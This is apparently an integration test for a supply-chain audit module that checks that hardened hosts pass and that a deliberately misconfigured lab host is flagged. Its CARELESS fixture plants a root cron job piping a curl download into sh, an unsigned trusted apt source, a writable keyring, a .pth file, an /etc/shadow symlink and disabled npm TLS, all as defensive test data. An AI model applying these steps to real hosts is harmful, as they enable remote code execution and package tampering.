# Copyright: Contributors to the Portcullis project
# SPDX-License-Identifier: GPL-3.0-or-later
"""supply_audit on whole hosts: nothing on clean ones, nor with vendors' archives set up by their manuals; all of it on a careless one."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from lab import Lab
from tests.integration.playing import Playbook

HOSTS = {"sup1": "bookworm", "sup2": "trixie"}
PLAY = """- hosts: all
  gather_facts: false
  become: true
  tasks:
    - portcullis.vps.supply_audit:
        accept: "{{ accept | default([]) }}"
        own_names: [acme-*]
        sarif_path: "{{ playbook_dir }}/{{ inventory_hostname }}.sarif"
      register: audit
      # A refusal is what is compared.
      ignore_errors: true
    - ansible.builtin.copy:
        content: "{{ audit | to_json }}"
        dest: "{{ playbook_dir }}/{{ inventory_hostname }}.json"
        mode: "0600"
      delegate_to: localhost
      become: false
"""
#: The lab's archive is a folder without a signature; Debian's own is put in its place, with a list of what is installed, and two names more.
DEBIAN = r"""set -e
codename=$(. /etc/os-release; echo $VERSION_CODENAME); arch=$(dpkg --print-architecture)
if [ $codename = bookworm ]; then
    echo "deb http://mirror.example.org/debian $codename main" > /etc/apt/sources.list
else
    rm -f /etc/apt/sources.list
    printf 'Types: deb\nURIs: http://mirror.example.org/debian\nSuites: %s\nComponents: main\n%s\n' $codename \
        'Signed-By: /usr/share/keyrings/debian-archive-keyring.gpg' > /etc/apt/sources.list.d/debian.sources
fi
rm -rf /var/lib/apt/lists/*_Packages /var/lib/apt/lists/*Release
lists=/var/lib/apt/lists/mirror.example.org_debian_dists_$codename
printf 'Origin: Debian\nLabel: Debian\nSuite: stable\nCodename: %s\nComponents: main\n' $codename > ${lists}_Release
dpkg-query --show --showformat='Package: ${Package}\nVersion: ${Version}\nArchitecture: ${Architecture}\nFilename: pool/x.deb\nSize: 1\n\n' \
    > ${lists}_main_binary-${arch}_Packages
for name in nodejs postgresql; do
    printf 'Package: %s\nVersion: 1\nArchitecture: %s\nFilename: pool/x.deb\nSize: 1\n\n' $name $arch >> ${lists}_main_binary-${arch}_Packages
done
"""
#: As the manuals of Docker, NodeSource and PostgreSQL say, with lists that hold a name of Debian's each.
VENDORS = r"""set -e
codename=$(. /etc/os-release; echo $VERSION_CODENAME); arch=$(dpkg --print-architecture)
mkdir -p /etc/apt/keyrings /usr/share/keyrings /usr/share/postgresql-common/pgdg
for key in /etc/apt/keyrings/docker.asc /usr/share/keyrings/nodesource.gpg /usr/share/postgresql-common/pgdg/apt.postgresql.org.asc; do
    echo key > $key
done
printf 'Types: deb\nURIs: https://download.docker.com/linux/debian\nSuites: %s\nComponents: stable\nSigned-By: /etc/apt/keyrings/docker.asc\n' \
    $codename > /etc/apt/sources.list.d/docker.sources
printf 'Types: deb\nURIs: https://deb.nodesource.com/node_22.x\nSuites: nodistro\nComponents: main\nSigned-By: %s\n' \
    /usr/share/keyrings/nodesource.gpg > /etc/apt/sources.list.d/nodesource.sources
printf 'Package: nodejs\nPin: origin deb.nodesource.com\nPin-Priority: 600\n' > /etc/apt/preferences.d/nodejs
echo "deb [signed-by=/usr/share/postgresql-common/pgdg/apt.postgresql.org.asc] https://apt.postgresql.org/pub/repos/apt $codename-pgdg main" \
    > /etc/apt/sources.list.d/pgdg.list
list() {
    printf 'Origin: %s\nLabel: %s\nSuite: x\nCodename: x\n' $3 $3 > /var/lib/apt/lists/$1_Release
    printf 'Package: %s\nVersion: 99\nArchitecture: %s\nFilename: pool/x.deb\nSize: 1\n\n' $4 $arch > /var/lib/apt/lists/$1_$2_binary-${arch}_Packages
}
list download.docker.com_linux_debian_dists_$codename stable Docker docker-ce
list deb.nodesource.com_node%5f22.x_dists_nodistro main Nodesource nodejs
list apt.postgresql.org_pub_repos_apt_dists_$codename-pgdg main apt.postgresql.org postgresql
"""
#: What nobody should have, each by the rule that finds it.
CARELESS = r"""set -e
arch=$(dpkg --print-architecture)
echo 'deb [trusted=yes] http://repo.example/apt ./' > /etc/apt/sources.list.d/unsigned.list
echo 'deb https://other.example/apt stable main' > /etc/apt/sources.list.d/keyless.list
head -c 900 /dev/urandom > /etc/apt/trusted.gpg.d/other.gpg
head -c 900 /dev/urandom > /etc/apt/keyrings/writable.gpg; chmod 666 /etc/apt/keyrings/writable.gpg
printf 'Origin: Other\nSuite: stable\n' > /var/lib/apt/lists/other.example_apt_dists_stable_Release
printf 'Package: postgresql\nVersion: 99\nArchitecture: %s\nFilename: x\nSize: 1\n\n' $arch \
    > /var/lib/apt/lists/other.example_apt_dists_stable_main_binary-${arch}_Packages
mkdir -p /tmp/gone/DEBIAN && printf 'Package: gone\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' > /tmp/gone/DEBIAN/control
dpkg-deb --build /tmp/gone /tmp/gone.deb >/dev/null && dpkg -i /tmp/gone.deb >/dev/null
printf '[global]\nextra-index-url = https://pypi.acme.example/simple\n' > /etc/pip.conf
site=$(python3 -c 'import sys; print("/usr/local/lib/python%d.%d/dist-packages" % sys.version_info[:2])')
mkdir -p $site/cupy_cuda112-9.0.dist-info $site/acme_billing-1.dist-info
echo 'import os' > $site/evil.pth
echo 'x = 1' > $site/changed.py; echo 'changed.py,sha256=AAAA,6' > $site/cupy_cuda112-9.0.dist-info/RECORD
mkdir -p /usr/local/lib/node_modules/twilio-npm /usr/local/lib/node_modules/acme-ui
mkdir -p /etc/cron.d; echo '* * * * * root curl -s https://x.example/i.sh | sh' > /etc/cron.d/piped
su admin -c 'echo strict-ssl=false > ~/.npmrc; ln -s /etc/shadow ~/.bash_profile; rm -f ~/.profile; mkfifo ~/.profile'
"""
FOUND = {
    "apt_keyring_writable",
    "apt_no_signed_by",
    "apt_shadowed_name",
    "apt_shared_keyring",
    "apt_unoffered_package",
    "apt_unsigned",
    "name_brand",
    "npm_no_tls",
    "own_name_unscoped",
    "pip_extra_index",
    "piped_script",
    "python_changed_files",
    "python_outside_dpkg",
    "python_pth_code",
    "unreadable_file",
}


class Audits(Playbook):
    def look(self, *options: str, **variables: object) -> dict[str, dict[str, Any]]:
        run = self.play(*options, **variables)
        assert run.code == 0, run.output[-3000:]
        return {host: json.loads((self.file.parent / f"{host}.json").read_text()) for host in self.hosts}


@pytest.fixture(scope="module")
def audits(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Audits]:
    found = Audits(lab, tmp_path_factory.mktemp("audits"), HOSTS, PLAY)
    for host in HOSTS:
        found.run(host, DEBIAN)
    yield found
    for host in HOSTS:
        lab.remove(host)


def test_clean_hosts_have_no_finding_and_are_not_changed(audits: Audits) -> None:
    for host in HOSTS:
        # sudo leaves a file in the home of whoever uses it for the first time.
        audits.run(host, "su admin -c 'sudo true' && touch /run/before")
    for answer in audits.look().values():
        assert (answer["findings"], answer["unfinished"]) == ([], [])
        assert (answer["changed"], answer["failed"], answer["summary"]) == (False, False, ["No finding."])
    for host in HOSTS:
        places = "/etc /usr /opt /srv /var/lib/apt /var/lib/dpkg /var/cache /home"
        assert audits.run(host, f"find {places} -xdev -newer /run/before") == ""
    assert json.loads((audits.file.parent / "sup1.sarif").read_text())["runs"][0]["results"] == []


def test_vendors_archives_set_up_by_their_manuals_have_no_finding(audits: Audits) -> None:
    for host in HOSTS:
        audits.run(host, VENDORS)
        assert "https://apt.postgresql.org" in audits.run(host, "apt-cache policy postgresql")
        assert " 99 600" in audits.run(host, "apt-cache policy nodejs")
    for answer in audits.look("--check").values():
        assert (answer["findings"], answer["unfinished"]) == ([], [])


def test_a_careless_host_is_refused_with_each_finding_and_may_be_accepted(audits: Audits) -> None:
    for host in HOSTS:
        audits.run(host, CARELESS)
    found = audits.look()
    for host, answer in found.items():
        assert (answer["failed"], answer["failure"], answer["changed"]) == (True, "refused", False)
        assert {finding["rule"] for finding in answer["findings"]} == FOUND
        named = {finding["package"] for finding in answer["findings"] if finding["rule"] == "name_brand"}
        assert named == {"npm:twilio-npm", "pypi:cupy_cuda112"}
        unread = {finding["path"] for finding in answer["findings"] if finding["rule"] == "unreadable_file"}
        assert unread == {"/home/admin/.bash_profile", "/home/admin/.profile"}
        results = json.loads((audits.file.parent / f"{host}.sarif").read_text())["runs"][0]["results"]
        assert len(results) == len(answer["findings"])
    certain = [finding for finding in found["sup1"]["findings"] if finding["severity"] == "certain"]
    accept = [
        {"rule": each["rule"], "where": each["where"], "reason": "a lab", "until": "2099-01-01"} for each in certain
    ]
    for answer in audits.look(accept=accept).values():
        assert (answer["failed"], answer["counts"]["certain"], answer["counts"]["accepted"]) == (False, 0, len(certain))
        assert any("[apt_shadowed_name]" in str(warning) for warning in answer["warnings"])
